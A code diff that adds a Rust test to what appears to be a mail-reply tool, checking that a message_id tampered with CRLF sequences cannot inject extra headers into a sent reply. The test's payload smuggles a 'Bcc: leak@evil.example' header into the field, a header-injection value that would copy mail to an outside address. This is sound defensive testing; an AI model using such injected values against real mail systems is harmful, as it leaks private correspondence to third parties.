@@ -639,6 +639,26 @@ fn a_sent_reply_threads_and_is_recorded_as_the_first_response() {
 }
 
 #[test]
+fn a_message_id_edited_into_a_header_of_its_own_is_not_sent() {
+    let log = log_with_sendmail(false);
+    let id = mail_in(&log, "plain.eml");
+    let path = log.case_path(&id);
+    let text = fs::read_to_string(&path).unwrap().replace(
+        "message_id = \"CAF1a2b3c4@mail.example.com\"",
+        "message_id = \"CAF1a2b3c4@mail.example.com>\\r\\nBcc: leak@evil.example\\r\\nX-A: <z\"",
+    );
+    assert!(text.contains("leak@evil.example"), "{text}");
+    fs::write(&path, text).unwrap();
+    log.run(["reply", &id, "--send", "Checking with the bank."])
+        .ok();
+    let message = sent(&log);
+    let headers = &message[..message.find("\r\n\r\n").unwrap()];
+    assert!(!headers.to_ascii_lowercase().contains("bcc"), "{headers}");
+    assert!(!headers.contains("leak@evil.example"), "{headers}");
+    assert!(!headers.contains("In-Reply-To"), "{headers}");
+}
+
+#[test]
 fn a_reply_the_mail_system_refuses_is_not_recorded() {
     let log = log_with_sendmail(true);
     let id = log.open(&["--contact", "maria@example.com"]);
